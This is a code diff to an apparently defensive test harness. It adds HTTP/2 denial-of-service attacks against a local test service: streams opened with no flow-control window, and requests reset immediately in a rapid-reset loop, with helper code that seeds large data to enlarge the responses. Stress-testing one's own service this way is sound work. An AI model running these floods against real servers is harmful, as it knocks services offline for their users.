@@ -71,6 +71,8 @@ final class Attacks {
                 attacks.attack("M6 PING flood", 2, attacks::pings),
                 attacks.attack("M6 SETTINGS flood", 2, attacks::settings),
                 attacks.attack("X1 pipelined requests whose answers are not read", 4, attacks::unreadAnswers),
+                attacks.attack("X2 lists over HTTP/2 without a window", 8, attacks::listsWithoutWindow),
+                attacks.attack("X3 requests over HTTP/2 that are reset at once", 4, attacks::resets),
                 attacks.attack("K2 histories of long items", 8, attacks::longItems),
                 attacks.attack("K3 pages of 8 MiB that are not read", 40, attacks::unreadPages),
                 attacks.attack("K7 packed imports of long items", 8, attacks::longImports));
@@ -376,6 +378,57 @@ final class Attacks {
                 .build();
         client.send(request, HttpResponse.BodyHandlers.discarding());
         running.sent(body.length);
+    }
+
+    private void listsWithoutWindow(Running running) throws Exception {
+        longList();
+        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
+            connection.withoutWindow();
+            for (var stream = 1; stream < 200 && running.isOn(); stream += 2) {
+                list(connection, stream);
+            }
+            TimeUnit.SECONDS.sleep(3);
+        }
+    }
+
+    private void resets(Running running) throws Exception {
+        longList();
+        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
+            for (var stream = 1; stream < 1000 && running.isOn(); stream += 2) {
+                list(connection, stream);
+                connection.send(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
+                running.sent(500);
+            }
+        }
+    }
+
+    private static void list(RawHttp2 connection, int stream) throws IOException {
+        connection.get(
+                stream,
+                "/v1/threads?limit=100",
+                ":authority",
+                "localhost",
+                "authorization",
+                "Bearer " + Victim.token("greedy"));
+    }
+
+    private volatile boolean hasLongList;
+
+    /** A list of the greedy tenant of some 200 KB. */
+    private synchronized void longList() throws Exception {
+        for (var i = 0; !hasLongList && i < 100; i++) {
+            var id = UUID.randomUUID();
+            var file = sessionMeta(id) + Items.userMessage("q".repeat(1900)) + "\n";
+            var request = HttpRequest.newBuilder(URI.create(victim.url("/v1/threads/" + id + "/rollout")))
+                    .header("Authorization", "Bearer " + Victim.token("greedy"))
+                    .header("Content-Type", "application/x-ndjson")
+                    .PUT(HttpRequest.BodyPublishers.ofString(file))
+                    .build();
+            if (client.send(request, HttpResponse.BodyHandlers.discarding()).statusCode() != 201) {
+                throw new IOException("the thread can't be imported");
+            }
+        }
+        hasLongList = true;
     }
 
     private static String sessionMeta(UUID id) {
